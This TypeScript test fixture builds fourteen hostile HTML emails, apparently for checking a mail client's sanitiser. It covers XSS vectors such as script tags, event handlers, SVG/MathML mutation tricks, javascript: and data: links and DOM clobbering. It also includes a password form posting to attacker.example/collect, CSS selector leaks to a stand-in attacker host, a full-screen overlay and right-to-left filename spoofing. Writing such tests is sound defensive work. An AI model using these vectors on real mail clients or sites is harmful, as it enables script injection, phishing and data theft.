/**
 * What every script below would run: it only leaves a mark on the window it runs in, and on the top one if it can
 * reach it, for tests to look for. Nothing is read, sent or changed.
 */
const STRIKE = 'window.__curbcutXss=1;try{top.__curbcutXss=1}catch(e){}'
const CODED = Buffer.from(`<script>${STRIKE}</script>`).toString('base64')

export interface HostileMail {
  key: string
  subject: string
  html: string
}

/** The sentence of a hostile mail that has to stay readable. */
export function markerOf(number: number): string {
  return `Line ${String(number).padStart(2, '0')}: if you can read this, the message was shown safely.`
}

const sources: readonly { title: string; html: string }[] = [
  {
    title: 'scripts',
    html: `<script>${STRIKE}</script><SCRIPT SRC="https://attacker.example/x.js"></SCRIPT>
<scr<script>ipt>${STRIKE}</script><script type="module">${STRIKE}</script><noscript><p title="</noscript><img src=x onerror=${STRIKE}>"></noscript>
<script/x>${STRIKE}</script ><xmp><script>${STRIKE}</script></xmp><textarea></textarea><script>${STRIKE}</script>`,
  },
  {
    title: 'event handlers',
    html: `<img src="x" onerror="${STRIKE}"><img src=x:x onerror=${STRIKE} alt="">
<body onload="${STRIKE}"><video autoplay onloadstart="${STRIKE}"><source src="x" onerror="${STRIKE}"></video>
<details open ontoggle="${STRIKE}"><summary>more</summary></details><marquee onstart="${STRIKE}">news</marquee>
<p onmouseover="${STRIKE}" onfocus="${STRIKE}" tabindex="1">hover</p><div style="animation:x 1s" onanimationstart="${STRIKE}">x</div>
<input autofocus onfocus="${STRIKE}"><select autofocus onfocus="${STRIKE}"><option>1</option></select><a href="#" onclick="${STRIKE}">click</a>`,
  },
  {
    title: 'svg and math',
    html: `<svg onload="${STRIKE}"><script>${STRIKE}</script><a xlink:href="javascript:${STRIKE}"><text y="20">svg link</text></a>
<animate attributeName="href" values="javascript:${STRIKE}"/><foreignObject><img src=x onerror="${STRIKE}"></foreignObject><use href="data:image/svg+xml;base64,${CODED}#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${STRIKE}&gt;"></mglyph></table></mtext></math>
<math href="javascript:${STRIKE}">formula</math><svg><style><img src=x onerror="${STRIKE}"></style></svg>`,
  },
  {
    title: 'link schemes',
    html: `<a href="javascript:${STRIKE}">one</a> <a href="JaVaScRiPt&#58;${STRIKE}">two</a> <a href=" java&#9;script:${STRIKE}">three</a>
<a href="data:text/html;base64,${CODED}">four</a> <a href="vbscript:msgbox(1)">five</a> <a href="/api/session" ping="https://attacker.example/ping">six</a>
<a href="//attacker.example/">seven</a> <a target="_top" href="https://attacker.example/">https://city-hall.example.gov/sign-in</a>
<img src="/api/session" alt=""> <a href="file:///etc/passwd">eight</a> <a href="blob:https://example.gov/1">nine</a>`,
  },
  {
    title: 'a sign-in form',
    html: `<form action="https://attacker.example/collect" method="post"><h1>Your session has ended</h1>
<label>Password <input type="password" name="password" autocomplete="current-password"></label>
<button formaction="javascript:${STRIKE}">Sign in</button><input type="image" src="x" onerror="${STRIKE}" alt="go"></form>
<isindex action="javascript:${STRIKE}" type="submit"><keygen autofocus onfocus="${STRIKE}">`,
  },
  {
    title: 'moving away and base addresses',
    html: `<meta http-equiv="refresh" content="0;url=javascript:${STRIKE}"><meta http-equiv="refresh" content="0;url=https://attacker.example/">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><base href="https://attacker.example/"><base target="_top">
<link rel="stylesheet" href="https://attacker.example/x.css"><link rel="prefetch" href="https://attacker.example/p"><link rel="dns-prefetch" href="//attacker.example">
<a href="relative/page.html">a relative link</a>`,
  },
  {
    title: 'style sheets',
    html: `<style>@import url("https://attacker.example/import.css");body{background:url(https://attacker.example/bg.png)}
@font-face{font-family:x;src:url(https://attacker.example/f.woff2)}p{font-family:x}
input[value^="a"]{background:url(https://attacker.example/leak?a)} *{display:none!important} .keep,.keep *{display:block!important}</style>
<p style="background:url('javascript:${STRIKE}')">one</p><p style="width:expression(${STRIKE})">two</p><p style="-moz-binding:url(https://attacker.example/x.xml#x)">three</p>
<p style="behavior:url(x.htc);list-style-image:url(https://attacker.example/l.png)">four</p>
<div class="keep"><p>Hidden by the style sheet of this mail, kept by class.</p></div>`,
  },
  {
    title: 'a cover over the window',
    html: `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><p>Please sign in again at the new address.</p></div>
<a href="https://attacker.example/" style="position:absolute;top:-200px;left:-200px;width:4000px;height:4000px;opacity:0">cover</a>
<div style="margin-top:-5000px;height:5000px">pulled up</div><div style="transform:scale(40)">large</div>
<p style="position:sticky;top:0">stuck</p><p style="width:100000px">wide</p><dialog open>A dialog of the mail</dialog><div popover id="p">popover</div>`,
  },
  {
    title: 'frames and objects',
    html: `<iframe src="javascript:${STRIKE}"></iframe><iframe srcdoc="<script>${STRIKE.replaceAll('"', '&quot;')}</script>"></iframe>
<object data="data:text/html;base64,${CODED}"></object><embed src="https://attacker.example/x.swf"><applet code="x"></applet>
<frameset><frame src="javascript:${STRIKE}"></frameset><portal src="https://attacker.example/"></portal><template><script>${STRIKE}</script></template>
<audio src="https://attacker.example/a.mp3" autoplay></audio><video poster="https://attacker.example/p.png"></video>`,
  },
  {
    title: 'focus and keys',
    html: `<button autofocus accesskey="s" tabindex="1">First</button><a href="https://attacker.example/" accesskey="d" tabindex="2">Second</a>
<p tabindex="999">Third</p><div contenteditable="true" autofocus>Write here</div><label accesskey="c">Fourth</label>
<a href="#main">skip to the mail's own main</a>`,
  },
  {
    title: 'names that shadow the page',
    html: `<form id="app" name="body"><input name="getElementById"><input name="attributes"></form><img name="cookie" id="location" alt="">
<a id="defaultView" name="currentScript" href="https://attacker.example/">a</a><a id="config" name="endpoint" href="clobbered:1">b</a>
<div id="polite-announcer" class="visually-hidden">c</div><object id="trustedTypes"></object><iframe name="top"></iframe>
<img usemap="#m" alt=""><map name="m" id="constructor"><area href="javascript:${STRIKE}" alt=""></map>`,
  },
  {
    title: 'loud words for screen readers',
    html: `<div role="alert" aria-live="assertive">Urgent! Your account closes in five minutes!</div><div aria-live="polite" role="status">Message deleted.</div>
<h1>Inbox</h1><h1>Curbcut</h1><main><nav aria-label="Folders"><ul role="tree"><li role="treeitem">Inbox, 0 unread</li></ul></nav></main>
<div role="dialog" aria-modal="true" aria-label="Sign in">Sign in</div><div role="application">application</div>
<p aria-hidden="true">Seen but never heard.</p><button aria-label="Archive">Pay now</button><p aria-label="A harmless sentence">A different sentence.</p>
<header role="banner">banner</header><a href="https://attacker.example/" aria-label="City Hall, sign in">pay</a>`,
  },
  {
    title: 'right-to-left tricks and long words',
    html: `<p>The file is called invoice\u202Efdp.exe and the address reads ‮vog.elpmaxe\u202C backwards.</p><p>pay\u200Bpal and \u2066left\u2069</p>
<bdo dir="rtl">This sentence runs the wrong way.</bdo><p>${'Donaudampfschifffahrtsgesellschaftskapitänswitwe'.repeat(40)}</p>
<p>https://city.example.gov/${'a-very-long-path/'.repeat(60)}</p><pre>${'no line break here '.repeat(80)}</pre><p>Z${'\u0301\u0316\u0332'.repeat(60)}algo</p>`,
  },
  {
    title: 'broken markup',
    html: `<div><table><tr><td><a title="</td></tr></table><img src=x onerror=${STRIKE}>">one</a>${'<b><i><font>'.repeat(200)}deep<!--><img src=x onerror="${STRIKE}">-->
<![CDATA[<img src=x onerror="${STRIKE}">]]><?xml-stylesheet href="javascript:${STRIKE}"?><img """><script>${STRIKE}</script>">
<a href="https://example.org" style="x:\\65 xpression(${STRIKE})">two</a><p id=x onclick=\`${STRIKE}\`>three</p></textarea></title></style></noscript></template>
<table background="https://attacker.example/t.png"><tr><td background="https://attacker.example/td.png">four</td></tr></table>`,
  },
]

/** One mail for each kind of attack, written for the security exercise the mails pretend to be part of. */
export const hostileMails: readonly HostileMail[] = sources.map(({ title, html }, index) => ({
  key: `hostile-${String(index + 1).padStart(2, '0')}`,
  subject: `Mail safety exercise ${index + 1} of ${sources.length}: ${title}`,
  html: `<html><head><title>Exercise</title></head><body><p class="keep">${markerOf(index + 1)}</p>\n${html}\n<p class="keep">End of the exercise.</p></body></html>`,
}))
